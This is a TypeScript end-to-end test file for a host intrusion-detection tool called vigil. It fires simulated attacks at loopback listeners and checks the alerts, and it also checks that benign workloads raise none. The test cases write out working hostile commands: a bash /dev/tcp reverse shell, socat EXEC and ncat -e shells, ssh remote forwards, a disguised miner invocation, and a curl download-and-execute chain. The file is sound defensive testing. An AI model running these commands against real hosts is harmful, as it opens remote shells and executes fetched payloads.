/**
 * The detection evaluation, end to end: real attack tools and real benign work run under `vigil up`
 * (real bpftrace, NATS, chDB), and the alerts are read back with `vigil alerts --json`. Every attack
 * must raise its rule with the process's ancestry; no benign workload may raise anything.
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { copyFileSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer as createHttp, type Server as HttpServer } from 'node:http';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import type { AlertV1 } from '@vigil/schema';
import { freePort, REPO, startVigil, startVigilUp, tempDir, vigilJson, waitFor } from '../support/harness.js';

const HOST = `det-${process.pid}`;
const dir = tempDir('det');
const gpuNode = join(dir, 'nvidiactl');
const nvIoctl = join(dir, 'nv-ioctl');
const trainer = join(dir, 'train', 'bin', 'trainer');
let api = '';
let up: ReturnType<typeof startVigil>;
let follow: ReturnType<typeof startVigil>;
let sink: Server;
let sinkPort = 0;
let http: HttpServer;
let httpPort = 0;
const counts = { attacks: 0, caught: 0, benign: 0, falseAlerts: 0 };

const alerts = () => vigilJson<AlertV1[]>(api, ['alerts', '--host', HOST, '--since', '1h', '--limit', '1000']);
const mine = (a: AlertV1, pid: number) => a.proc?.pid === pid || !!a.proc?.ancestry.some((x) => x.pid === pid);
const run = (cmd: string, args: string[], env: Record<string, string> = {}) =>
  spawnSync(cmd, args, { stdio: 'ignore', timeout: 10_000, env: { ...process.env, ...env } });

before(async () => {
  execFileSync('mknod', [gpuNode, 'c', '1', '7']);
  execFileSync('cc', ['-O2', '-o', nvIoctl, join(REPO, 'test', 'support', 'nv-ioctl.c')]);
  mkdirSync(join(dir, 'train', 'bin'), { recursive: true });
  copyFileSync(nvIoctl, trainer);
  // A listener for the tunnels and shells to reach, and an HTTP server to download from.
  sink = createServer((s) => {
    s.on('error', () => undefined);
    setTimeout(() => s.destroy(), 200);
  });
  sinkPort = await new Promise<number>((r) =>
    sink.listen(0, '127.0.0.1', () => r((sink.address() as { port: number }).port)),
  );
  const payload = readFileSync(nvIoctl);
  http = createHttp((_req, res) => res.end(payload));
  httpPort = await new Promise<number>((r) =>
    http.listen(0, '127.0.0.1', () => r((http.address() as { port: number }).port)),
  );
  ({ api, up } = await startVigilUp(join(dir, 'data'), HOST, [
    '--gpu-device',
    `${gpuNode}=nvidia`,
    '--window-seconds',
    '1',
    '--gpu-expected',
    join(dir, 'train', '**'),
  ]));
  follow = startVigil(['alerts', '--follow', '--json', '--api', api, '--host', HOST]);
  await waitFor(
    'the follower connected',
    () => vigilJson<{ controlPlane: { alertFollowers: number } }>(api, ['status']).controlPlane.alertFollowers >= 1,
    20_000,
    200,
  );
});

after(async () => {
  console.log(
    `# detection evaluation: ${counts.caught}/${counts.attacks} attacks alerted with the right rule; ${counts.falseAlerts} alerts on ${counts.benign} benign workloads`,
  );
  sink?.close();
  http?.close();
  await follow?.stop();
  assert.equal(await up?.stop(), 0);
});

/** Without blocking this process: its HTTP server must answer the download. */
const runAsync = (cmd: string, args: string[]) =>
  new Promise<{ pid?: number }>((resolve) => {
    const child = spawn(cmd, args, { stdio: 'ignore' });
    child.once('exit', () => resolve({ ...(child.pid ? { pid: child.pid } : {}) }));
  });

/** Runs an attack and waits for `rule` on a process that is it or descends from it. */
async function attack(name: string, rule: string, go: () => { pid?: number } | Promise<{ pid?: number }>) {
  counts.attacks++;
  const { pid } = await go();
  assert.ok(pid, `${name}: started`);
  const alert = await waitFor(
    `${rule} for ${name}`,
    () => alerts().find((a) => a.ruleId === rule && mine(a, pid!)),
    20_000,
    300,
  );
  assert.ok(
    alert.proc?.ancestry.some((a) => a.pid === process.pid),
    `${name}: the alert carries the ancestry up to the test process`,
  );
  assert.ok(alert.evidence.length >= 1);
  assert.ok(alert.reason.length > 20);
  counts.caught++;
  return alert;
}

test('renamed miner with miner arguments', async () => {
  const fake = join(dir, 'kworkerd');
  copyFileSync('/bin/sleep', fake);
  execFileSync('chmod', ['+x', fake]);
  const a = await attack('renamed miner', 'miner.exec', () =>
    run(fake, ['0', '-o', 'stratum+tcp://pool.supportxmr.com:3333', '-u', '44AFFq5kSiGBoZ', '--donate-level=1']),
  );
  assert.equal(a.severity, 'critical');
  assert.match(a.reason, /renamed/);
});

test('GPU compute from an unexpected binary on the test GPU device', async () => {
  const a = await attack('unexpected GPU user', 'gpu.unexpected-process', () => run(nvIoctl, [gpuNode, '3']));
  assert.match(a.reason, /HOPPER_(CHANNEL_GPFIFO|COMPUTE)_A/);
});

test('ssh with a remote forward to a loopback address', async () => {
  const a = await attack('ssh -R', 'tunnel.ssh-forward', () =>
    run('ssh', [
      '-o',
      'BatchMode=yes',
      '-o',
      'ConnectTimeout=1',
      '-o',
      'StrictHostKeyChecking=no',
      '-NR',
      '9000:localhost:22',
      'nobody@127.0.0.1',
    ]),
  );
  // The far end is loopback here (peers stay on loopback): high; to another host it is critical.
  assert.equal(a.severity, 'high');
  assert.match(a.reason, /remote forward \(-R 9000:localhost:22\); the far end 127\.0\.0\.1 is loopback/);
});

test('autossh', async () => {
  await attack('autossh', 'tunnel.ssh-forward', () =>
    run(
      'timeout',
      [
        '3',
        'autossh',
        '-M',
        '0',
        '-N',
        '-R',
        '9001:localhost:22',
        '-o',
        'BatchMode=yes',
        '-o',
        'ConnectTimeout=1',
        'nobody@127.0.0.1',
      ],
      { AUTOSSH_MAXSTART: '1', AUTOSSH_GATETIME: '0' },
    ),
  );
});

test('socat EXEC', async () => {
  await attack('socat EXEC', 'tunnel.tool', () =>
    run('timeout', ['3', 'socat', `TCP:127.0.0.1:${sinkPort}`, 'EXEC:/bin/true']),
  );
});

test('ncat -e', async () => {
  await attack('ncat -e', 'tunnel.tool', () =>
    run('timeout', ['3', 'ncat', '127.0.0.1', String(sinkPort), '-e', '/bin/true']),
  );
});

test('a renamed socat is known by its address grammar, whatever it is called', async () => {
  const copy = join(dir, 'kworker-s');
  copyFileSync('/usr/bin/socat', copy);
  execFileSync('chmod', ['+x', copy]);
  const a = await attack('renamed socat EXEC', 'tunnel.tool', () =>
    run('timeout', ['3', copy, `TCP:127.0.0.1:${sinkPort}`, 'EXEC:/bin/true']),
  );
  assert.match(a.reason, /running a program for a connection to 127\.0\.0\.1:\d+ \(EXEC\/SYSTEM\)/);
  assert.match(a.reason, /recognised by its arguments \(run as .*kworker-s\)/);
  // A loopback peer is one strong signal on loopback: high, not critical.
  assert.equal(a.severity, 'high');
});

test('ordinary tunnels rank low: ssh -L, -D as VS Code runs it, -J, and a loopback socat relay raise nothing high', async () => {
  const lo = ['-o', 'BatchMode=yes', '-o', 'ConnectTimeout=1', '-o', 'StrictHostKeyChecking=no'];
  const relayPort = await freePort();
  const pids = [
    run('ssh', [...lo, '-N', '-L', '18888:localhost:8888', 'nobody@127.0.0.1']).pid,
    run('ssh', [...lo, '-T', '-D', '50123', 'nobody@127.0.0.1', 'bash']).pid,
    run('ssh', [...lo, '-J', 'nobody@127.0.0.1', 'nobody@127.0.0.1']).pid,
    run('timeout', ['2', 'socat', `TCP-LISTEN:${relayPort},bind=127.0.0.1,fork`, `TCP:127.0.0.1:${sinkPort}`]).pid,
  ];
  await new Promise((r) => setTimeout(r, 6000));
  const loud = alerts().filter(
    (a) => pids.some((p) => p !== undefined && mine(a, p)) && (a.severity === 'high' || a.severity === 'critical'),
  );
  assert.deepEqual(
    loud.map((a) => `${a.ruleId} ${a.severity}: ${a.reason}`),
    [],
  );
  // They are still seen: the forwards are context, ranked low.
  assert.ok(alerts().some((a) => a.ruleId === 'tunnel.ssh-forward' && a.severity === 'low' && mine(a, pids[0]!)));
});

test('bash /dev/tcp reverse shell', async () => {
  await attack('bash /dev/tcp', 'shell.reverse', () =>
    run('timeout', ['3', 'bash', '-c', `bash -i >& /dev/tcp/127.0.0.1/${sinkPort} 0>&1; true`]),
  );
});

test('a shell downloads a binary into a writable place and runs it on the GPU: one chain alert', async () => {
  const a = await attack('download-run chain', 'chain.shell-download-run', () =>
    runAsync('bash', [
      '-c',
      `curl -s -o ${dir}/.payload http://127.0.0.1:${httpPort}/x && chmod +x ${dir}/.payload && ${dir}/.payload ${gpuNode} 3; true`,
    ]),
  );
  assert.match(a.reason, /downloaded with `curl -s -o .*\.payload http:\/\/127\.0\.0\.1:\d+\/x`, then ran .*\.payload/);
  assert.ok(a.evidence.length >= 2, 'the download and the GPU call are both evidence');
});

test('vigil alerts --follow --json streamed every alert as it was raised, one object per line', async () => {
  const stored = alerts();
  const parse = () =>
    follow.logs
      .join('')
      .split('\n')
      .filter((l) => l.startsWith('{'))
      .map((l) => JSON.parse(l) as AlertV1);
  // The last lines may still be in the pipe from the follower.
  const streamed = await waitFor(
    'every stored alert streamed',
    () => {
      const s = parse();
      return stored.every((x) => s.some((a) => a.id === x.id)) ? s : null;
    },
    10_000,
    200,
  ).catch(() => parse());
  for (const rule of [
    'miner.exec',
    'gpu.unexpected-process',
    'tunnel.ssh-forward',
    'tunnel.tool',
    'shell.reverse',
    'chain.shell-download-run',
  ]) {
    assert.ok(
      streamed.some((a) => a.ruleId === rule),
      `${rule} streamed`,
    );
  }
  assert.ok(
    stored.every((s) => streamed.some((a) => a.id === s.id)),
    'every stored alert was streamed',
  );
});

test('benign work raises nothing: git over ssh, HTTPS with curl, pip, training on the GPU from its expected path, a compiler', async () => {
  writeFileSync(join(dir, 'hello.c'), 'int main(void) { return 0; }\n');
  const pids = [
    run('ssh', ['-o', 'BatchMode=yes', '-o', 'ConnectTimeout=1', 'git@127.0.0.1', "git-upload-pack 'org/repo.git'"])
      .pid,
    run('curl', ['-s', '--max-time', '2', 'https://127.0.0.1:1/simple/torch/']).pid,
    run('python3', [
      '-m',
      'pip',
      'download',
      '--no-deps',
      '--dest',
      dir,
      '--index-url',
      'http://127.0.0.1:1/simple',
      'nothing-here',
    ]).pid,
    run(trainer, [gpuNode, '3']).pid,
    run('cc', ['-O2', '-o', join(dir, 'hello'), join(dir, 'hello.c')]).pid,
  ];
  counts.benign = pids.length;
  // Let every event travel and be evaluated (the exec → alert path takes well under a second).
  await new Promise((r) => setTimeout(r, 6000));
  const bad = alerts().filter((a) => pids.some((p) => p !== undefined && mine(a, p)));
  counts.falseAlerts = bad.length;
  assert.deepEqual(
    bad.map((a) => `${a.ruleId}: ${a.reason}`),
    [],
  );
  const gpuSeen = vigilJson<{ gpu: { name: string } }[]>(api, [
    'events',
    '--host',
    HOST,
    '--kind',
    'gpu',
    '--pid',
    String(pids[3]),
  ]);
  assert.ok(gpuSeen.length > 0, 'the expected trainer did use the GPU (and was seen doing so)');
});
